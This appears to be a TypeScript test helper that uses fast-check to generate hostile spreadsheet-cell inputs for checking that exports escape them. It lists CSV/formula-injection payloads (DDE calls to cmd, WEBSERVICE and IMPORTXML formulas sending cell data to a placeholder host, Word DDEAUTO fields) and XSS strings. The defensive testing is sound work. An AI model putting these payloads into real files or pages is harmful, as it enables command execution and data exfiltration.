import fc from "fast-check";

/** Stands in every nasty text, and in nothing of ours: where it turns up, such a text has got to. */
export const MARK = "qzx";

/** Signs and what may stand before them; a formula, a link or a page might come of each. */
const BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\u00a0=", "\ufeff=", "\u200b=", '"=', "'=", "'", "\uff1d", "\uff0b", "\uff0d", "\uff20", "%=", ";=", ",=", "{=", "==", "-+=", "=-", "&", "&&", "&L&G", "&8", "0&", "1", "<", "<!--", "]]>", "_x003D_", "\\", "#", "javascript:", "data:text/html,", "file:///", "\\\\host\\share\\", "https://host.example/", "mailto:"];

const BODIES = [
  `cmd|'/c ${MARK}'!A0`, `DDE("cmd";"/c ${MARK}";"x")`, `HYPERLINK("https://${MARK}.example","see")`, `WEBSERVICE("https://${MARK}.example/"&A1)`, `IMPORTXML(CONCAT("https://${MARK}.example/",A1),"//a")`, `1+1*${MARK}()`, `SUM(1)*${MARK}|'x'!A1`,
  `${MARK}"&A1&"`, `${MARK}")+(1`, `${MARK}</f></t></c><c><f>1+1</f>`, `${MARK}"><script>alert(1)</script>`, `${MARK}' onmouseover='alert(1)`, `${MARK}<img src=x onerror=alert(1)>`, `${MARK}</style><script>1</script>`, `${MARK}\\u003cscript>`,
  `${MARK} { INCLUDETEXT "c:\\\\x" }`, `${MARK}"/><w:fldSimple w:instr="DDEAUTO c:\\\\x"/>`, `${MARK}&P of &N &F &D`, `${MARK}#REF!`, `[${MARK}]:*?/\\`, `${MARK}'!A1`, `5 ${MARK}`, `${MARK}`,
];

/** A text as somebody who means harm, or types oddly, might put it into a cell. */
export const nastyText: fc.Arbitrary<string> = fc.tuple(fc.oneof(fc.constantFrom(...BEGINNINGS), fc.constantFrom(...BEGINNINGS, "").chain((first) => fc.constantFrom(...BEGINNINGS).map((second) => first + second))), fc.constantFrom(...BODIES)).map(([first, body]) => first + body);
